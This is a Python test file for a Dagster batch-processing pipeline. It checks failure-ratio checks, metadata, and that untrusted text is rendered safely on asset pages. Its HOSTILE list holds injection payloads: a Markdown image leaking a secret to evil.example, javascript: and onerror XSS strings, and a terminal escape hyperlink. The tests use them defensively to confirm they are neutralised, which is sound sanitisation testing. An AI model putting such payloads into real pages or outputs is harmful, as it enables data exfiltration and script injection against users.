"""What people see on the asset pages: checks, numbers that plot, links, columns."""

from __future__ import annotations

from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import dagster as dg
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from markdown_it import MarkdownIt

from batch_pipeline.model import Hold, HoldKind, PartitionCounts, PartitionSummary
from batch_pipeline.orchestration import checks, describing, metadata, sensors
from batch_pipeline.policy.lifecycle import Step
from batch_pipeline_tests.orchestration.location import location
from batch_pipeline_tests.world import DAYS, World, rows

ONE, TWO, THREE = DAYS


def test_both_checks_are_evaluated_for_each_partition_of_a_range(world: World) -> None:
    world.write_rows({TWO: rows(4, prefix="no")})
    world.sim.faults({"rows": [{"becomes": "refused", "regex": "^no-001-"}]})
    with location(world) as place:
        place.submit(*DAYS)
        place.finish()
        whole = place.evaluations("results", checks.ACCOUNTED_FOR)
        assert {day: one.passed for day, one in whole.items()} == dict.fromkeys(DAYS, True)
        ratio = place.evaluations("results", checks.FAILED_RATIO)
        assert {day: one.passed for day, one in ratio.items()} == {
            ONE: True,
            TWO: False,
            THREE: True,
        }
        assert ratio[TWO].severity is dg.AssetCheckSeverity.WARN
        assert ratio[TWO].description == (
            "1 of 4 rows failed (25.0%; at most 5.0% may). 0 of them go again."
        )
        assert ratio[TWO].metadata["failed_ratio"].value == 0.25


def test_results_that_lack_a_row_fail_the_check_as_an_error(world: World) -> None:
    counts = PartitionCounts("moods", ONE, requests=5, succeeded=4, failed=0)
    short = checks.accounted_for(world.job(), counts, 4)
    assert not short.passed
    assert short.severity is dg.AssetCheckSeverity.ERROR
    assert short.metadata["not_accounted_for"].value == 1
    whole = PartitionCounts("moods", ONE, requests=5, succeeded=4, failed=1)
    assert checks.accounted_for(world.job(), whole, 5).passed
    assert not checks.accounted_for(world.job(), whole, 6).passed


def test_numbers_are_numbers_and_paths_lead_to_files(world: World) -> None:
    world.write_rows({ONE: [{"id": "a", "body": "bars | and <b>\n"}, *rows(30)]})
    with location(world) as place:
        place.submit(ONE)
        place.finish()
        seen: dict[str, dict[str, Any]] = {
            step: place.metadata(step, ONE)
            for step in ("requests", "batches", "results", "cost_report")
        }
        assert seen["requests"]["requests"] == seen["results"]["dagster/row_count"] == 31
        assert seen["results"]["failed_ratio"] == 0.0
        assert seen["results"]["duplicate_lines"] == seen["results"]["unknown_lines"] == 0
        for key in ("cost_usd", "live_cost_usd", "saved_usd"):
            assert isinstance(seen["cost_report"][key], float)
        for key in ("input_tokens", "output_tokens", "requests", "rows_of_unknown_cost"):
            assert isinstance(seen["cost_report"][key], int)
        assert seen["cost_report"]["simulated"] is True
        for path in (
            seen["requests"]["lines"],
            seen["requests"]["dagster/uri"],
            seen["results"]["dagster/uri"],
            seen["cost_report"]["report"],
        ):
            assert world.folder.joinpath(path).is_file()
        (batch,) = seen["batches"]["batches"].records
        assert (batch.data["requests"], batch.data["of"], batch.data["state"]) == (
            31,
            31,
            "submitted",
        )
        assert len(seen["results"]["preview"]) < 1000
        columns = {one.name: one for one in seen["results"]["dagster/column_schema"].columns}
        assert columns["id"].description == "Names the row."
        assert columns["cost_usd"].type.startswith("decimal")
        assert all(one.description for one in columns.values())


def test_a_count_or_cost_nobody_knows_is_not_shown_as_zero() -> None:
    assert metadata._money(None).value == "unknown"
    assert metadata._count(None).value == "unknown"


def test_failures_are_listed_by_kind() -> None:
    assert metadata.kinds_table({}) == "none"
    assert metadata.kinds_table({"refused": 2, "expired": 1}).splitlines()[2:] == [
        "| expired | 1 |",
        "| refused | 2 |",
    ]


HOSTILE = (
    "![x](http://evil.example/?q=secret)",
    "[a](javascript:alert(1))",
    "<img src=x onerror=alert(1)>",
    "http://auto.example www.auto.example",
    "\x1b]8;;http://evil.example\x1b\\x",
    "a|b\n\n# Title `code` ```",
)


def acts(text: str) -> set[str]:
    """The kinds of everything in a Markdown text that is more than text, tables and fences."""
    reader = MarkdownIt("commonmark").enable(["table", "strikethrough"])
    kinds = {child.type for token in reader.parse(text) for child in token.children or []}
    kinds |= {token.type for token in reader.parse(text)}
    return kinds & {
        "link_open",
        "image",
        "html_inline",
        "html_block",
        "code_inline",
        "heading_open",
    }


def test_an_answer_in_the_preview_is_text_and_no_link_or_picture(tmp_path: Path) -> None:
    path = tmp_path / "results.parquet"
    texts = list(HOSTILE)
    columns = {"id": texts, "status": ["succeeded"] * 6, "failure": [None] * 6, "text": texts}
    pq.write_table(pa.table(columns), path)
    shown = metadata.preview(path, ["id"])
    assert not acts(shown)
    assert "\x1b" not in shown
    assert shown.count("| succeeded |") >= len(HOSTILE) - 1  # the page shows a thousand characters


@pytest.mark.parametrize("hostile", HOSTILE)
def test_what_a_job_file_says_is_text_on_the_pages_too(world: World, hostile: str) -> None:
    job = world.job(
        description=hostile,
        request={"prompt": f"{hostile}\n```\n![x](http://evil.example) {{{{ body }}}}"},
        targets=[{"provider": "openai", "model": hostile.replace("\n", " ")}],
    )
    for step in ("dataset", "requests"):
        page = describing.described(job, step)
        assert "\x1b" not in page
        assert not acts(page)


def test_a_tick_says_what_a_provider_said_on_one_line() -> None:
    now = datetime(2026, 8, 1, tzinfo=UTC)
    hold = Hold("moods", ONE, HoldKind.PERSON, "[/]\x1b[31m\nred", now)
    counts = PartitionCounts("moods", ONE, requests=1)
    steps = {ONE: (Step.BLOCKED, PartitionSummary(counts, holds=(hold,)))}
    assert sensors.standing(steps) == "1 blocked. Blocked: [/]\\x1b[31m\\nred"
    held = metadata.of_progress(*steps[ONE])["held"].value
    assert "\x1b" not in str(held)
